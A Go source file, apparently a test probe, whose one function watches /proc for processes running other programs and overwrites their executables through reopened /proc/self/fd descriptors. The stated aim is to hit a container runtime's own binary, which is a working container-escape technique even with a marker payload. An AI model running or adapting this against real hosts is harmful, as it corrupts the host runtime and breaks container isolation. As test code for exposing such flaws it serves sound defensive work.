package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// overwritePrograms waits for processes that run another program than this one, and writes over what they run, now or once they have ended: a
// runtime's own program, if it shows itself in a container.
func overwritePrograms(own string) {
	fmt.Println("ready")
	held := map[string]int{}
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
		links, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, link := range links {
			target, err := os.Readlink(link)
			if err != nil || strings.HasPrefix(target, own) || held[target] != 0 {
				continue
			}
			fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			held[target] = fd
			fmt.Println("met", target)
		}
		for target, fd := range held {
			file, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0)
			if err != nil {
				continue
			}
			if _, err := file.WriteAt([]byte("overwritten"), 0); err == nil {
				fmt.Println("wrote", target)
			}
			file.Close()
		}
	}
	fmt.Println("done")
}
